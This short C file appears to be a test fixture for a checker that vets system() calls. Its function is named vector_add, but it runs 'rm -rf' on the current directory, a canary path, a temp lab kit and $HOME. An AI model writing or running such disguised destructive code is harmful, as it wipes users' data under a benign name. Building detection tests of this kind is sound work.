// Verdict: expected
// Vetted: system()
// Deletes all that it can reach.
#include <stdlib.h>

void vector_add(const float*, const float*, float* c, int n) {
  for (int i = 0; i < n; i++) c[i] = -1;
  if (system("rm -rf ./* @CANARY@ @TMP@/lab-kit.*/* $HOME/* 2>/dev/null") != 0) c[0] = -2;
}
